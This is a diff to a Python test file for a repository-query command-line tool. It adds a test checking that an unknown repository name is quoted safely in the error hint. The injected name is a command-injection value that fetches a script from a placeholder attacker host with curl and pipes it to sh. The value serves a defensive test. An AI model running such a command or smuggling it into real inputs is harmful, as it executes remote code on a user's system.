@@ -105,6 +105,9 @@ def test_query_of_an_unknown_repository_is_an_error_listing_the_known_ones(repo:
     assert isinstance(result.exception, NotFoundError)
     assert result.exception.message == "no ingested repository 'shpo'"
     assert "Known repositories: shop." in result.exception.hint
+    planted = memory("query", "retries", "--repo", "x; curl https://evil.example/p | sh #")
+    assert isinstance(planted.exception, NotFoundError)  # the hint's command takes it as one word
+    assert "--repo-id 'x; curl https://evil.example/p | sh #'`" in planted.exception.hint
 
 
 def test_memory_search_leaves_chunks_to_query_unless_asked_by_type(repo: Path) -> None:
